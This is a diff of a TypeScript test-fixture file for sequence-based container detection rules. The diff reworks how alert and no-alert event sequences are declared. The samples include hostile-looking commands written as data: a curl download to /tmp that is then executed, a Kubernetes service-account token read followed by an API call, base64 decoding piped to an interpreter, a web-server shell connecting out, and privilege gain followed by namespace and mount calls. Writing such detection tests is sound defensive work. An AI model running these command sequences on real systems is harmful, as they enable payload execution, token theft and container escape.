@@ -1,20 +1,14 @@
 import { type RuleCase, type Sample, connects, exec, hook, opens, writes } from "./rule-samples";
-
-/** An event of a sample sequence: seconds after its beginning, and in a container of its own where it is not the usual one. */
-interface SampleEvent {
-  after: number;
-  sample: Sample;
-  elsewhere?: boolean;
-}
+import type { SampleEvent } from "./sequence-near-misses";
 
 /** Samples of a rule about several events. */
 export interface SequenceCase {
   /** Of each step. */
   steps: RuleCase[];
-  /** What must give one alert. */
-  alerts: SampleEvent[][];
-  /** The same events and no alert: too late, in another order, in another container or of another file. */
-  none: SampleEvent[][];
+  /** What must give one alert, one event for each step; `walksOf` makes of it what must not. */
+  alert: SampleEvent[];
+  /** What gives no alert either, though each of its events looks like a step: of another file for example. */
+  none?: SampleEvent[][];
 }
 
 const host = { host: true };
@@ -22,7 +16,6 @@ const token = "/var/run/secrets/kubernetes.io/serviceaccount/token";
 const nginx = { parentBinary: "/usr/sbin/nginx" };
 
 const at = (after: number, sample: Sample): SampleEvent => ({ after, sample });
-const elsewhere = (after: number, sample: Sample): SampleEvent => ({ after, sample, elsewhere: true });
 
 const download = exec("/usr/bin/curl -so /tmp/a https://203.0.113.5/a");
 const fromTemporary = exec("/tmp/a --now");
@@ -46,24 +39,15 @@ export const sequenceCases: Record<string, SequenceCase> = {
       { finds: [download], leaves: [exec("/usr/bin/curl -so /srv/a https://203.0.113.5/a"), fromTemporary] },
       { finds: [fromTemporary], leaves: [exec("/srv/a --now"), exec("/tmp/a --now", host), download] },
     ],
-    alerts: [[at(0, download), at(250, fromTemporary)]],
-    none: [
-      [at(0, fromTemporary), at(10, download)],
-      [at(0, download), at(310, fromTemporary)],
-      [at(0, download), elsewhere(10, fromTemporary)],
-    ],
+    alert: [at(0, download), at(250, fromTemporary)],
   },
   "changed-then-executed": {
     steps: [
       { finds: [changed], leaves: [opens("/usr/bin/wget x", "/usr/local/bin/a"), changedRuns] },
       { finds: [changedRuns], leaves: [exec("/usr/local/bin/a", host), changed] },
     ],
-    alerts: [[at(0, changed), at(5, changedRuns)]],
-    none: [
-      [at(0, changed), at(5, exec("/usr/local/bin/b --now"))],
-      [at(0, changedRuns), at(5, changed)],
-      [at(0, changed), elsewhere(5, changedRuns)],
-    ],
+    alert: [at(0, changed), at(5, changedRuns)],
+    none: [[at(0, changed), at(5, exec("/usr/local/bin/b --now"))]],
   },
   "shell-then-token-then-connection": {
     steps: [
@@ -78,13 +62,7 @@ export const sequenceCases: Record<string, SequenceCase> = {
         ],
       },
     ],
-    alerts: [[at(0, shell), at(60, tokenRead), at(200, apiAsked)]],
-    none: [
-      [at(0, shell), at(60, apiAsked), at(70, tokenRead)],
-      [at(0, shell), at(60, tokenRead), at(310, apiAsked)],
-      [at(0, shell), at(60, tokenRead), elsewhere(70, apiAsked)],
-      [at(0, tokenRead), at(10, apiAsked)],
-    ],
+    alert: [at(0, shell), at(60, tokenRead), at(200, apiAsked)],
   },
   "privilege-then-namespace-then-mount": {
     steps: [
@@ -92,24 +70,14 @@ export const sequenceCases: Record<string, SequenceCase> = {
       { finds: [newNamespace], leaves: [hook("/usr/bin/runc x", "__x64_sys_unshare"), mounted] },
       { finds: [mounted], leaves: [hook("/usr/bin/runc x", "security_sb_mount"), newNamespace] },
     ],
-    alerts: [[at(0, becameRoot), at(20, newNamespace), at(59, mounted)]],
-    none: [
-      [at(0, newNamespace), at(1, mounted), at(2, becameRoot)],
-      [at(0, becameRoot), at(20, newNamespace), at(61, mounted)],
-      [at(0, becameRoot), elsewhere(1, newNamespace), at(2, mounted)],
-    ],
+    alert: [at(0, becameRoot), at(20, newNamespace), at(59, mounted)],
   },
   "decoded-then-interpreted": {
     steps: [
       { finds: [decoded], leaves: [exec("/usr/bin/base64 /srv/x"), exec("/usr/bin/base64 -d /srv/x", host)] },
       { finds: [interpreted, exec("/usr/bin/python3.12 -")], leaves: [exec("/bin/bash", host), decoded] },
     ],
-    alerts: [[at(0, decoded), at(1, interpreted)]],
-    none: [
-      [at(0, interpreted), at(1, decoded)],
-      [at(0, decoded), at(11, interpreted)],
-      [at(0, decoded), elsewhere(1, interpreted)],
-    ],
+    alert: [at(0, decoded), at(1, interpreted)],
   },
   "server-shell-then-connection": {
     steps: [
@@ -122,11 +90,7 @@ export const sequenceCases: Record<string, SequenceCase> = {
         leaves: [connects("/bin/sh -c id", "10.1.2.3", 443), serverShell],
       },
     ],
-    alerts: [[at(0, serverShell), at(3, connected)]],
-    none: [
-      [at(0, connected), at(3, serverShell)],
-      [at(0, serverShell), at(61, connected)],
-      [at(0, exec("/bin/sh -c id")), at(3, connected)],
-    ],
+    alert: [at(0, serverShell), at(3, connected)],
+    none: [[at(0, exec("/bin/sh -c id")), at(3, connected)]],
   },
 };
